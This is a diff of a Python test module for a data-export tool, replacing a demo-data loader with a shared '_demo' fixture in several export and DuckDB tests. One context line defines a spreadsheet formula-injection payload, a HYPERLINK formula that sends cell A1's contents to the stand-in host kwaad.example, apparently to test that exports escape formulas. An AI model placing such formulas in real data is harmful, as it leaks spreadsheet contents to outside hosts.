@@ -19,11 +19,10 @@ import duckdb
 import pytest
 from sqlalchemy import select
 
-from doorbraak.demo import casussen_laden
 from doorbraak.export import woordenboek
 from doorbraak.export.tabellen import TABELLEN
 from doorbraak.models import Leerpunt, Regel
-from tests.test_export import ROOT, Maker, complete_mappen, exporteren
+from tests.test_export import ROOT, Maker, _demo, complete_mappen, exporteren
 
 TIJDSTIP = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$")
 FORMULE = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'
@@ -50,7 +49,7 @@ def _bestanden(map_: Path, behalve: tuple[str, ...] = ()) -> set[str]:
 
 
 async def _demo_met_lastige_tekst(db: Maker) -> None:
-    await casussen_laden(db)
+    await _demo(db)
     async with db() as session:
         leerpunt = (await session.scalars(select(Leerpunt).order_by(Leerpunt.id))).first()
         assert leerpunt is not None
@@ -104,7 +103,7 @@ async def test_default_profile_keeps_line_breaks_and_escapes_formulas(
 async def test_zip_bundle_and_sha256sums_verify_with_standard_tools(
     db: Maker, tmp_path: Path
 ) -> None:
-    await casussen_laden(db)
+    await _demo(db)
     run = await exporteren(db, tmp_path / "export", zip=True)
     map_ = Path(run.map or "")
     manifest = json.loads((map_ / "manifest.json").read_text())
@@ -127,7 +126,7 @@ async def test_zip_bundle_and_sha256sums_verify_with_standard_tools(
 async def test_run_folder_carries_its_table_schemas_and_one_timestamp_style(
     db: Maker, tmp_path: Path
 ) -> None:
-    await casussen_laden(db)
+    await _demo(db)
     await exporteren(db, tmp_path)
     [map_] = complete_mappen(tmp_path)
     manifest = json.loads((map_ / "manifest.json").read_text())
@@ -180,7 +179,7 @@ def _lees(con: duckdb.DuckDBPyConnection, map_: Path, tabel: str) -> duckdb.Duck
 async def test_duckdb_reads_every_file_with_the_schema_types_even_all_empty(
     db: Maker, tmp_path: Path
 ) -> None:
-    await casussen_laden(db)
+    await _demo(db)
     vol = await exporteren(db, tmp_path / "vol")
     leeg = await exporteren(db, tmp_path / "leeg", "incrementeel")  # nothing changed since
     assert leeg.modus == "incrementeel" and leeg.rijen_per_tabel["casussen"] == 0
@@ -212,7 +211,7 @@ async def test_duckdb_reads_every_file_with_the_schema_types_even_all_empty(
 async def test_duckdb_europe_amsterdam_day_totals_as_the_docs_say(
     db: Maker, tmp_path: Path
 ) -> None:
-    await casussen_laden(db)
+    await _demo(db)
     run = await exporteren(db, tmp_path)
     pad = Path(run.map or "") / "casussen.csv"
     con = duckdb.connect()
